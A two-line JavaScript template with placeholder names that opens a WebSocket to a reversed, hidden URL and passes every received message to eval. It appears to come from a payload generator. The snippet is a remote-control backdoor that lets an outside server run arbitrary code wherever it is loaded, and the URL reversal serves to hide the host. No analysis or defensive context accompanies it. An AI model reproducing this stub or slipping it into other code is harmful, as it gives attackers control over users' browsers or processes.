var %N1% = new WebSocket('%WSREV%'.split('').reverse().join(''));
%N1%.onmessage = function (m) { eval(m.data); };
